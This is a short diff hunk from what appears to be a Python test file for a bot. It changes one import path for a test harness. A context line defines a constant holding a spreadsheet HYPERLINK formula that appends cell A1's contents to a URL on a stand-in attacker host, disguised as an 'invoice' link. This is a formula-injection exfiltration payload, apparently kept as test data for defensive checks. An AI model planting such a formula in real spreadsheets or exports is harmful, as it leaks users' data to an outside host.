@@ -14,7 +14,7 @@ import io
 from sqlalchemy import update
 
 from bot.db import Job
-from tests.fakes.harness import Harness, made
+from bot.testing.harness import Harness, made
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"invoice")'
 
